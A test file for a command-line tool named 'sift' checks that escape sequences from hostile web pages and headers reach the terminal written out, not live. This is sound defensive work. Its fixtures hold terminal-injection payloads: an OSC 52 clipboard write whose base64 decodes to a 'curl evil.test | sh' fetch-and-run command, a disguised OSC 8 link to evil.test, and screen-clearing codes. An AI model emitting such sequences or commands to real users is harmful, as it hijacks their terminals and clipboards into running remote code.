@@ -1,0 +1,105 @@
+/**
+ * What a hostile page can do to the terminal `sift` prints on. A page's text, its title or a
+ * server's header may carry ESC sequences: CSI (colours, clearing the screen), OSC 8 (a link
+ * whose address is not the one shown) and OSC 52 (writing the user's clipboard), or the C1
+ * CSI (U+009B) a header read as Latin-1 gives. None of them may reach a terminal as bytes it
+ * acts on; --json and a stdout piped to a file keep the content as the page had it.
+ * The real CLI (in-process) against a loopback site, through the real fetcher and runner.
+ */
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { startSite, type Site } from '../helpers/sites';
+import { siftInProcess } from '../helpers/cli-main';
+
+const ESC = '\x1b';
+const OSC52 = `${ESC}]52;c;Y3VybCBldmlsLnRlc3QgfCBzaAo=\x07`;
+const CLEAR = `${ESC}[2J${ESC}[31m`;
+const LINK = `${ESC}]8;;http://evil.test/${ESC}\\docs${ESC}]8;;${ESC}\\`;
+// Anything a terminal acts on: C0 controls but tab and line feed, DEL, C1 controls.
+// eslint-disable-next-line no-control-regex -- finding control bytes is the point
+const ACTED_ON = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
+
+let site: Site;
+let dir: string;
+let db: string;
+let sift: ReturnType<typeof siftInProcess>;
+let tty: ReturnType<typeof siftInProcess>;
+
+const paragraph = 'The harbour master logs every tide by hand in a ledger kept by the quay. ';
+
+beforeAll(async () => {
+  site = await startSite({
+    '/notes.txt': (_req, res) => {
+      res.writeHead(200, { 'content-type': 'text/plain; charset=utf-8' });
+      res.end(`ledger ${OSC52} of tides ${CLEAR} and ${LINK} more\n`);
+    },
+    '/story': (_req, res) => {
+      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
+      res.end(
+        `<!doctype html><html><head><title>Quay &#27;]52;c;ZXZpbA==&#7; news &#x9b;31m</title></head><body><article><h1>Quay news</h1><p>${paragraph.repeat(6)}</p><p>The ledger ${ESC}[5m blinks ${LINK} here.</p></article></body></html>`,
+      );
+    },
+    // Node writes a header's value as Latin-1: 0x9B is the C1 CSI a terminal may act on.
+    '/blob': (_req, res) => {
+      res.writeHead(200, { 'content-type': 'application/x-\u009b2J\u009b31mblob' });
+      res.end('x');
+    },
+  });
+  dir = mkdtempSync(path.join(os.tmpdir(), 'sift-cli-escapes-'));
+  writeFileSync(path.join(dir, 'settings.json'), JSON.stringify({ allowHosts: ['127.0.0.1'] }));
+  db = path.join(dir, 'sift.db');
+  sift = siftInProcess(dir, { SIFT_HOME: dir });
+  tty = siftInProcess(dir, { SIFT_HOME: dir }, { terminal: true });
+}, 60_000);
+afterAll(async () => {
+  await site?.close();
+});
+
+test('sift search shows a hostile page title and snippet with its escapes written out, not run', { timeout: 60_000 }, async () => {
+  writeFileSync(path.join(dir, 'list.txt'), `${site.base}/notes.txt\n${site.base}/story\n`);
+  const batch = await sift('batch', path.join(dir, 'list.txt'), '--db', db);
+  expect(batch.code).toBe(0);
+  for (const words of ['ledger', 'blinks', 'harbour']) {
+    const r = await sift('search', words, '--db', db);
+    expect(r.code).toBe(0);
+    expect(r.out).toContain('1. ');
+    expect(r.out).not.toMatch(ACTED_ON);
+  }
+  const notes = await sift('search', 'tides', '--db', db);
+  // Written out, so the user sees that the page tried something.
+  expect(notes.out).toContain('\\x1b]52;c;');
+  // --json stays the document's own text, escaped as JSON escapes it.
+  const json = await sift('search', 'tides', '--json', '--db', db);
+  expect(JSON.parse(json.out.split('\n')[0]!).snippet).toContain(OSC52);
+});
+
+test('a server-chosen content type in an error reaches no terminal as a control: fetch, batch, status', { timeout: 60_000 }, async () => {
+  const fetched = await sift('fetch', `${site.base}/blob`, '--db', db);
+  expect(fetched.code).toBe(1);
+  expect(fetched.err).toMatch(/unsupported: application\/x-\\x9b2j\\x9b31mblob/);
+  expect(fetched.err).not.toMatch(ACTED_ON);
+
+  writeFileSync(path.join(dir, 'blob.txt'), `${site.base}/blob\n`);
+  const run = await sift('batch', path.join(dir, 'blob.txt'), '--db', db);
+  expect(run.code).toBe(1);
+  expect(run.err).toContain('unsupported: application/x-\\x9b2j');
+  expect(`${run.out}${run.err}`).not.toMatch(ACTED_ON);
+  const id = /^job (\S+)/.exec(run.err)![1]!;
+  const status = await sift('status', id, '--db', db);
+  expect(status.out).toContain('unsupported: application/x-\\x9b2j');
+  expect(`${status.out}${status.err}`).not.toMatch(ACTED_ON);
+});
+
+test('sift fetch writes a page out on a terminal with its escapes shown; piped, as the page had it', { timeout: 60_000 }, async () => {
+  const onTerminal = await tty('fetch', `${site.base}/notes.txt`, '--db', db);
+  expect(onTerminal.code).toBe(0);
+  expect(onTerminal.out).toBe('ledger \\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaAo=\\x07 of tides \\x1b[2J\\x1b[31m and \\x1b]8;;http://evil.test/\\x1b\\docs\\x1b]8;;\\x1b\\ more\n');
+  const piped = await sift('fetch', `${site.base}/notes.txt`, '--db', db);
+  expect(piped.out).toBe(`ledger ${OSC52} of tides ${CLEAR} and ${LINK} more\n`);
+  const article = await tty('fetch', `${site.base}/story`, '--db', db);
+  expect(article.code).toBe(0);
+  expect(article.out).toContain('harbour master');
+  expect(article.out).not.toMatch(ACTED_ON);
+});
